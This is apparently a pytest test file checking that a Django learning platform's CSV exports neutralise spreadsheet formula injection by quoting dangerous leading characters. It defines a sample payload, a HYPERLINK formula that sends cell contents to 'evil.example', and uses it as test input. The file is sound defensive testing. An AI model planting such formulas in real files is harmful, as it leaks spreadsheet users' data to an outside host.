"""Every CSV export is safe to open in a spreadsheet (no formula injection)."""

import csv
import io
from decimal import Decimal

from django.conf import settings
from django.urls import reverse

import pytest

from courses.models import QuestionKind
from courses.services import quizzes as quiz_services
from lms.accounts.models import Firm
from lms.csv_cells import neutralise_cell

from . import factories
from . import quiz_factories as qf

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Klikk her")'


def _rows(response):
    return list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+47 22 00 00 00", "'+47 22 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Bakeri AS", "Bakeri AS"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (Decimal("-2.5"), Decimal("-2.5")),
        (42, 42),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(value, written):
    assert neutralise_cell(value) == written


def test_run_overview_csv_writes_a_formula_firm_name_as_text(client):
    run = factories.run()
    enrolment = factories.enrolment(run_=run, participants=1)
    # A firm contact can type this in the firm's profile.
    Firm.objects.filter(pk=enrolment.firm_id).update(name=FORMULA)
    client.force_login(run.leaders.get())
    response = client.get(reverse("courses:run_overview_csv", args=[run.pk]))
    assert response.content.startswith("\ufeff".encode())
    rows = _rows(response)
    assert rows[1][0] == "'" + FORMULA
    triggers = ("=", "+", "-", "@")
    assert not any(cell.startswith(triggers) for row in rows for cell in row)


def test_quiz_results_csv_writes_formula_questions_and_choices_as_text(client):
    question = qf.question(kind=QuestionKind.SINGLE, text="=2+2")
    question.choices.filter(text="Riktig").update(text="@riktig")
    quiz = qf.quiz(questions=[question], shuffle_choices=False, title="Quiz")
    run = factories.run()
    run.course.required_quizzes.add(quiz)
    person = factories.enrolment(run_=run, participants=1).contact
    attempt = quiz_services.attempt_start(quiz=quiz, user=person)
    quiz_services.attempt_submit(attempt=attempt, user=person)
    client.force_login(run.leaders.get())
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.get(reverse("courses:quiz_results_csv", args=[run.pk, quiz.pk]))
    rows = _rows(response)
    assert {row[1] for row in rows[1:]} == {"'=2+2"}
    assert "'@riktig" in {row[5] for row in rows[1:]}
